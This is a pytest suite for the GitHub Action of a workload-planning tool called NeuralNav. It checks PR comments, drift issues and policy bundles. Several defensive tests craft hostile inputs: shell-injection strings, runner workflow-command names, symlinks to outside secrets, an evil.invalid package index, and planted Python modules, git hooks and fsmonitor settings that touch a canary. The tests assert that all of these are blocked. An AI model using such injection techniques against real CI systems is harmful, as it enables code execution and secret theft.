"""The action's steps, run as GitHub runs them, on a checkout with a real base and head."""

import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from action_runner import RUN, Runner, inputs_of
from conftest import ROOT, Installed
from fake_github import READER, REPOSITORY, WRITER, FakeGitHub, serving, zipped

from neuralnav.forge.results import TROUBLES
from neuralnav.report_diff import MARKER

FORK = "mallory/models"
WORKLOAD = """\
apiVersion: neuralnav.dev/v1alpha1
kind: Workload
metadata:
  name: support-chat
spec:
  useCase: chatbot_conversational
  traffic: {users: 20000}
  priorities: {cost: high}
  constraints:
    budget: 30000 USD/month
    licenses: [apache-2.0, llama3.1]
  deploy: {namespace: llm-prod}
"""


@dataclass
class Pull:
    """A repository with a pull request, and the folder that jobs check it out below."""

    neuralnav: Installed
    github: FakeGitHub
    folder: Path

    @property
    def origin(self) -> Path:
        return self.folder / "origin"

    def git(self, *arguments: str) -> str:
        done = subprocess.run(
            ["git", *arguments], cwd=self.origin, env=dict(self.neuralnav.environment), capture_output=True, text=True,
            check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    def begin(self) -> None:
        """Commit a base: one workload, compiled."""
        (self.origin / "chat").mkdir(parents=True)
        self.git("init", "--quiet", "--initial-branch=main")
        (self.origin / "chat" / "workload.yaml").write_text(WORKLOAD)
        self.compile()
        self.commit("base")

    def compile(self) -> None:
        self.neuralnav.done("compile", folder=self.origin)

    def commit(self, title: str) -> str:
        self.git("add", "--all")
        self.git("commit", "--quiet", "--allow-empty", "--message", title)
        return self.git("rev-parse", "HEAD")

    def change(self, edit: Callable[[Path], object], *, repository: str = REPOSITORY, branch: str = "change") -> Runner:
        """Commit a head, merge it as GitHub does, and return the runner of its job."""
        base = self.git("rev-parse", "main")
        self.git("checkout", "--quiet", "-b", branch)
        edit(self.origin)
        head = self.commit("change")
        self.git("checkout", "--quiet", "-b", "merge", "main")
        self.git("merge", "--quiet", "--no-ff", "--message", "merge", branch)
        self.github.pull(7, head, repository=repository, branch=branch)
        ends = {"base": {"sha": base, "ref": "main"}, "head": {"sha": head, "ref": branch}}
        event = {"pull_request": {"number": 7, "state": "open", "title": "t", **ends}}
        merge = self.git("rev-parse", "merge")
        return self.runner(self.checkout(depth=2), event_name="pull_request", event=event, sha=merge)

    def checkout(self, *, depth: int) -> Path:
        """Clone the merge commit as actions/checkout does, so shallow."""
        target = self.folder / f"work-{depth}"
        self.git("clone", "--quiet", f"--depth={depth}", "--branch=merge", f"file://{self.origin}", str(target))
        return target

    def runner(self, workspace: Path, **more: object) -> Runner:
        temp = self.folder / "temp" / workspace.name
        return Runner(workspace, temp, self.neuralnav.environment, self.github.url, **more)  # type: ignore[arg-type]  # the caller names fields


@pytest.fixture
def pull(tmp_path: Path, small_neuralnav: Installed) -> Iterator[Pull]:
    with serving(FakeGitHub()) as github:
        found = Pull(small_neuralnav, github, tmp_path)
        found.begin()
        yield found


def doubled(origin: Path, neuralnav: Installed | None = None) -> None:
    """Double the users, and compile where a NeuralNav is given."""
    path = origin / "chat" / "workload.yaml"
    path.write_text(WORKLOAD.replace("users: 20000", "users: 40000"))
    if neuralnav:
        neuralnav.done("compile", folder=origin)


def test_a_change_is_told_in_one_comment(pull: Pull) -> None:
    runner = pull.change(lambda origin: doubled(origin, pull.neuralnav))
    ran = runner.run()
    assert ran.exit_code == 0, ran.log
    (only,) = pull.github.comments
    first, *_ = only["body"].splitlines()
    assert first.startswith("**Plan changes for 1 of 1 workload: `support-chat` goes from ")
    assert "traffic.users 20000 -> 40000 (line 7)" in only["body"]
    assert MARKER in only["body"]
    assert ran.summary.startswith(first)
    assert "Committed plans are what their inputs say (1 workload)." in ran.summary
    assert (ran.outputs["decision"], ran.outputs["drift"], ran.outputs["exit-code"]) == ("changed", "", "0")
    assert float(ran.outputs["cost-delta"]) > 0
    assert ran.outputs["summary"] == first.strip("*").replace("`", "")
    assert set(ran.artifacts["neuralnav-diff"]) == {"diff.json", "check.json", "report.md"}
    assert Path(ran.outputs["report"]).read_text().startswith(first)
    again = runner.run()
    assert again.exit_code == 0
    assert "comment unchanged" in again.log
    assert (Path(ran.outputs["diff-json"]).read_bytes(), len(pull.github.comments)) == (
        ran.artifacts["neuralnav-diff"]["diff.json"],
        1,
    )


def test_nothing_is_posted_where_nothing_changed(pull: Pull) -> None:
    ran = pull.change(lambda origin: (origin / "README.md").write_text("hello\n")).run()
    assert (ran.exit_code, pull.github.comments) == (0, [])
    assert ran.outputs["decision"] == "unchanged"
    assert ran.outputs["cost-delta"] == "0.00"
    assert (ran.commands, ran.log) == ([], "comment nothing to say\n")


def test_drift_fails_the_job_after_the_comment(pull: Pull) -> None:
    ran = pull.change(doubled).run()
    assert ran.exit_code == 3
    assert ran.outputs["drift"] == "workload"
    assert len(pull.github.comments) == 1
    assert "::warning file=chat/plan.lock" in ran.log or "::error file=chat/plan.lock" in ran.log
    assert ran.steps[-2:] == ["Comment", "Fail on what fail-on names"]


def test_fail_on_decides_what_fails(pull: Pull) -> None:
    runner = pull.change(doubled)
    codes = [runner.run(fail_on=words, mode="check").exit_code for words in ("never", "broken refused", "drift,broken")]
    assert codes == [0, 0, 3]
    assert runner.run(fail_on="changes", mode="comment").exit_code == 3
    assert runner.run(fail_on="refused\ndrift\n", mode="check").exit_code == 3
    assert runner.run(fail_on="", mode="check").exit_code == 0


def test_a_head_that_does_not_parse_is_told_and_fails(pull: Pull) -> None:
    ran = pull.change(lambda origin: (origin / "chat" / "workload.yaml").write_text("kind: [\n")).run()
    assert ran.exit_code == 2
    assert "`chat/workload.yaml` cannot be planned: not valid YAML" in pull.github.comments[0]["body"]
    assert "::error file=chat/workload.yaml,line=" in ran.log


def test_mode_check_posts_nothing_and_keeps_an_issue(pull: Pull) -> None:
    runner = pull.change(doubled)
    runner.event_name, runner.event = "schedule", {}
    ran = runner.run(mode="check", issue="true", fail_on="broken")
    assert ran.exit_code == 0, ran.log
    assert pull.github.comments == []
    assert [item["title"] for item in pull.github.issues] == ["Committed plans are not what their inputs say"]
    assert ran.outputs["summary"] == "Drift: workload."


def test_a_token_that_only_reads_is_a_warning_and_no_red_build(pull: Pull) -> None:
    runner = pull.change(lambda origin: doubled(origin, pull.neuralnav), repository=FORK)
    runner.token = READER
    ran = runner.run()
    assert ran.exit_code == 0
    assert "::warning title=no plan comment::" in ran.log
    assert "HTTP 403" in ran.log


def test_a_fork_computes_without_a_token_and_another_job_posts(pull: Pull) -> None:
    runner = pull.change(lambda origin: doubled(origin, pull.neuralnav), repository=FORK)
    ran = runner.run(**inputs_of("plans-of-forks", "compute"))
    assert ran.exit_code == 0, ran.log
    assert pull.github.requests == []
    pull.github.artifact(RUN, "neuralnav-diff", zipped(ran.artifacts["neuralnav-diff"]))
    event = {
        "workflow_run": {
            "id": RUN, "event": "pull_request", "head_sha": pull.git("rev-parse", "change"), "head_branch": "change",
            "head_repository": {"full_name": FORK}, "pull_requests": [],
        }
    }  # fmt: skip
    empty = pull.folder / "empty"
    empty.mkdir()
    posted = pull.runner(empty, event_name="workflow_run", event=event).run(
        **inputs_of("plans-of-forks-comment", "comment")
    )
    assert posted.exit_code == 0, posted.log
    assert "comment created" in posted.log
    assert posted.steps == ["Set up uv", "Install NeuralNav from the action's own checkout", "Comment"]
    assert "The run of a fork computed this" in pull.github.comments[0]["body"]
    assert list(empty.iterdir()) == []


def test_parts_of_a_large_repository_become_one_comment(pull: Pull) -> None:
    for number in range(2):
        (pull.origin / "services" / f"part{number}" / "a").mkdir(parents=True)
        text = WORKLOAD.replace("support-chat", f"part-{number}")
        (pull.origin / "services" / f"part{number}" / "a" / "workload.yaml").write_text(text)
    pull.compile()
    pull.commit("services")

    def edit(origin: Path) -> None:
        for path in sorted((origin / "services").rglob("workload.yaml")):
            path.write_text(path.read_text().replace("users: 20000", "users: 40000"))
        pull.neuralnav.done("compile", folder=origin)

    runner = pull.change(edit)
    token, runner.token = runner.token, ""
    for number in range(2):
        told = {"matrix_path": f"services/part{number}", "strategy_job__index": str(number)}
        ran = runner.run(**inputs_of("plans-in-parts", "part", **told))
        assert (ran.exit_code, list(ran.artifacts)) == (0, [f"neuralnav-diff-{number}"]), ran.log
        for name, kept in ran.artifacts.items():
            pull.github.artifact(RUN, name, zipped(kept))
    assert pull.github.requests == []
    runner.token, runner.workspace = token, pull.folder / "nothing-checked-out"
    runner.workspace.mkdir()
    ran = runner.run(**inputs_of("plans-in-parts", "comment"))
    assert ran.exit_code == 0, ran.log
    (only,) = pull.github.comments
    assert only["body"].startswith("**Plan changes for 2 of 2 workloads: 2 deployed differently")
    assert "fork" not in only["body"]


def test_the_scheduled_job_keeps_one_issue_and_stays_green(pull: Pull) -> None:
    runner = pull.change(doubled)
    runner.event_name, runner.event = "schedule", {}
    for told in ("issue created", "issue unchanged"):
        ran = runner.run(**inputs_of("drift", "drift"))
        assert (ran.exit_code, told in ran.log) == (0, True), ran.log
    assert len(pull.github.issues) == 1
    pull.neuralnav.done("compile", folder=runner.workspace)
    assert "no drift; closed #50" in runner.run(**inputs_of("drift", "drift")).log
    assert pull.github.issues[0]["state"] == "closed"
    (runner.workspace / "chat" / "workload.yaml").write_text("kind: [\n")
    assert runner.run(**inputs_of("drift", "drift")).exit_code == 2
    assert "not valid YAML" in pull.github.issues[-1]["body"]
    pull.github.issues.clear()
    runner.token = READER
    ran = runner.run(**inputs_of("drift", "drift"))
    assert "::warning title=no drift issue::" in ran.log
    assert "HTTP 403" in ran.log


def test_an_unknown_base_is_told_and_fails(pull: Pull) -> None:
    ran = pull.change(doubled).run(base="no-such-branch", mode="comment")
    assert ran.exit_code == 2
    assert "::error title=neuralnav diff gave no result::" in ran.log
    assert "no-such-branch" in ran.summary
    assert pull.github.comments == []


def test_a_checkout_without_its_base_says_what_it_needs(pull: Pull) -> None:
    runner = pull.change(doubled)
    runner.workspace = pull.checkout(depth=1)
    ran = runner.run(mode="comment")
    assert ran.exit_code == 2
    assert "fetch" in ran.log


@pytest.mark.parametrize(
    ("inputs", "said"),
    [
        ({"mode": "both; id"}, "mode is check, comment or both"),
        ({"comment_mode": "new"}, "comment-mode is update, hide-and-new or off"),
        ({"issue": "yes"}, "issue is true or false"),
        ({"fail_on": "drift, not-broken"}, f"fail-on is a list of {', '.join(TROUBLES)}; or never"),
        ({"fail_on": "*"}, f"fail-on is a list of {', '.join(TROUBLES)}; or never"),
        ({"min_cost_usd": "5 USD"}, "the min- inputs are numbers from 0 on, such as 2.5"),
        ({"min_latency_percent": "-1"}, "the min- inputs are numbers from 0 on, such as 2.5"),
        ({"min_cost_percent": ""}, "the min- inputs are numbers from 0 on, such as 2.5"),
    ],
)
def test_an_input_that_is_not_known_fails_before_any_work(pull: Pull, inputs: dict[str, str], said: str) -> None:
    ran = pull.change(doubled).run(**inputs)
    assert (ran.exit_code, ran.log, len(ran.steps)) == (2, f"::error title=NeuralNav::{said}\n", 2)


SHELL = "$(touch pwned)`touch pwned`\";touch pwned;'||touch pwned #"


def test_no_text_of_others_reaches_a_shell(pull: Pull) -> None:
    name = SHELL.replace("/", "")

    def attack(origin: Path) -> None:
        (origin / name).mkdir()
        (origin / name / "workload.yaml").write_text(WORKLOAD.replace("support-chat", "other-chat"))
        (origin / "uv.toml").write_text('index-url = "https://evil.invalid/"\n')

    runner = pull.change(attack, branch="$(touch${IFS}pwned)")
    for inputs in (
        {"base": SHELL, "mode": "comment"}, {"paths": f"{name}\n{SHELL}", "policies": SHELL},
        {"fail_on": SHELL, "min_cost_usd": SHELL, "mode": "check"}, {"paths": name, "mode": "comment"},
    ):  # fmt: skip
        runner.run(**inputs)
    assert not list(pull.folder.rglob("pwned"))
    assert pull.github.comments
    body = pull.github.comments[0]["body"]
    assert "other-chat" in body


NEW_COMMAND, OLD_COMMAND = "::set-output name=code::0", "a##[add-mask]b"


def test_what_the_head_is_called_is_no_command_to_the_runner(pull: Pull) -> None:
    def attack(origin: Path) -> None:
        for name in (NEW_COMMAND, OLD_COMMAND, f" {NEW_COMMAND}", "::stop-commands::x"):
            (origin / name).mkdir()
            (origin / name / "workload.yaml").write_text("apiVersion: neuralnav.dev/v1alpha1\nkind: '##[add-path]x'\n")
            (origin / name / "bad.yaml").write_text(BAD_POLICY)

    runner = pull.change(attack)
    for inputs in ({}, {"policies": NEW_COMMAND}, {"policies": OLD_COMMAND}, {"base": OLD_COMMAND}):
        ran = runner.run(**inputs)
        assert ran.exit_code == 2
        assert "##[add-path]x" in ran.log or inputs
        assert set(ran.commands) <= {"error", "warning", "notice"}, inputs


HIDDEN = "hunter2-of-the-runner"


def test_what_lies_outside_the_repository_is_not_quoted(pull: Pull) -> None:
    outside = pull.folder / "outside"
    outside.mkdir()
    (outside / "secret.yaml").write_text(f"{HIDDEN}: {HIDDEN}\n")

    def attack(origin: Path) -> None:
        (origin / "stolen").mkdir()
        (origin / "stolen" / "workload.yaml").symlink_to("../../outside/secret.yaml")
        (origin / "chat" / "plan.lock").unlink()
        (origin / "chat" / "plan.lock").symlink_to(outside / "secret.yaml")
        settings = f"{{catalogs: [{outside}], templates: ../outside, policies: [{{path: ../outside/secret.yaml}}]}}"
        (origin / "neuralnav.yaml").write_text(f"apiVersion: neuralnav.dev/v1alpha1\nkind: Project\nspec: {settings}\n")

    ran = pull.change(attack, repository=FORK).run()
    assert ran.exit_code == 2
    body = pull.github.comments[0]["body"]
    assert "lies outside the repository" in body
    kept = b"".join(ran.artifacts["neuralnav-diff"].values()).decode()
    assert HIDDEN not in body + ran.log + ran.summary + kept


def test_no_code_of_the_head_runs(pull: Pull) -> None:
    canary = pull.folder / "canary"
    steal = f"open({str(canary)!r}, 'w').close()\n"

    def attack(origin: Path) -> None:
        for name in ("sitecustomize", "usercustomize", "click", "pydantic", "json", "secrets", "conftest", "setup"):
            (origin / f"{name}.py").write_text(steal)
        for package in ("neuralnav", "jinja2"):
            (origin / package).mkdir()
            (origin / package / "__init__.py").write_text(steal)
        (origin / "uv.toml").write_text('index-url = "https://evil.invalid/"\nrequired-version = "==0.0.1"\n')
        (origin / ".python-version").write_text("2.7\n")
        (origin / ".gitattributes").write_text("* filter=own diff=own merge=own\n")
        (origin / ".gitconfig").write_text(f"[core]\nfsmonitor = touch {canary}\n")
        hooks = origin / ".githooks"
        hooks.mkdir()
        (hooks / "post-checkout").write_text(f"#!/bin/sh\ntouch {canary}\n")

    runner = pull.change(attack)
    for key, value in (("filter.own.smudge", "touch"), ("diff.own.textconv", "touch"), ("core.fsmonitor", "touch")):
        # As if an earlier step had set them: attributes of the head must not reach them.
        subprocess.run(["git", "config", key, f"{value} {canary}"], cwd=runner.workspace, check=True)
    assert runner.run().exit_code == 0
    assert not canary.exists()


def test_the_installed_command_takes_no_module_from_the_folder_it_runs_in(tmp_path: Path) -> None:
    script = Path(sys.executable).parent / "neuralnav"
    if not script.exists():
        pytest.skip("neuralnav is not installed beside this Python")
    for name in ("click", "sitecustomize", "json", "pydantic"):
        (tmp_path / f"{name}.py").write_text("raise SystemExit('run')\n")
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
    done = subprocess.run(
        [str(script), "ci", "comment", "--help"], cwd=tmp_path, env=environment, capture_output=True, text=True,
        stdin=subprocess.DEVNULL, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr


def test_options_that_a_path_or_base_looks_like_are_none(pull: Pull) -> None:
    ran = pull.change(doubled).run(base="--output=stolen", mode="comment")
    assert ran.exit_code == 2
    assert not list(pull.folder.rglob("stolen"))
    ran = pull.runner(pull.folder / "work-2", event_name="push").run(paths="--help", mode="check")
    assert ran.exit_code == 2
    assert "--help" in ran.log


GUARD = """\
apiVersion: neuralnav.dev/v1alpha1
kind: Policy
metadata: {name: platform-guard}
spec:
  rules: [{id: small, require: candidate.replicas <= 2, message: at most two replicas}]
"""


def test_a_change_is_held_to_the_bundle_of_a_platform_team(pull: Pull) -> None:
    runner = pull.change(lambda origin: doubled(origin, pull.neuralnav))
    bundle = pull.folder / "platform"
    bundle.mkdir()
    (bundle / "guard.yaml").write_text(GUARD)
    ran = runner.run(mode="comment", policies=str(bundle))
    assert ran.exit_code == 4, ran.log
    assert ran.outputs["summary"].endswith("which policies beside its own refuse.")
    assert "the bundle's policy platform-guard.small refuses " in ran.log
    assert runner.run(mode="comment").exit_code == 0


BAD_POLICY = """\
apiVersion: neuralnav.dev/v1alpha1
kind: Policy
metadata: {name: bad}
spec: {rules: [{id: one, require: candidate.no_such_field > 1}]}
"""


def test_a_bundle_whose_tests_fail_is_broken(pull: Pull) -> None:
    def bundle(origin: Path) -> None:
        shutil.copytree(ROOT / "examples" / "policies", origin / "bundle")

    runner = pull.change(bundle)
    assert runner.run(policies="bundle").exit_code == 0
    (runner.workspace / "bundle" / "bad.yaml").write_text(BAD_POLICY)
    ran = runner.run(policies="bundle", mode="check")
    assert (ran.exit_code, ran.outputs["exit-code"]) == (2, "2")
    assert "::error title=the bundle of policies has errors or failing tests::bundle/bad.yaml" in ran.log
    assert "no_such_field" in ran.summary
    ran = runner.run(policies="bundle", fail_on="drift, refused", mode="check")
    assert (ran.exit_code, ran.outputs["exit-code"]) == (0, "2")


@pytest.mark.integration
def test_the_action_installs_from_its_own_checkout(pull: Pull, tmp_path: Path) -> None:
    if shutil.which("uv") is None:
        pytest.skip("uv is not installed")
    runner = pull.change(lambda origin: (origin / "README.md").write_text("hello\n"))
    runner.real_install = True
    runner.base = {name: value for name, value in os.environ.items() if name not in ("VIRTUAL_ENV", "PYTHONPATH")}
    runner.base["NEURALNAV_CACHE_DIR"] = str(tmp_path / "cache")
    ran = runner.run(mode="check", fail_on="never")
    if ran.exit_code and len(ran.steps) == 2:
        pytest.skip(f"the package index is not reachable: {ran.log.strip().splitlines()[-1]}")
    assert ran.exit_code == 0, ran.log
    assert ran.outputs["exit-code"] == "3"  # the packaged tables are not those of the small world
    assert WRITER not in ran.log
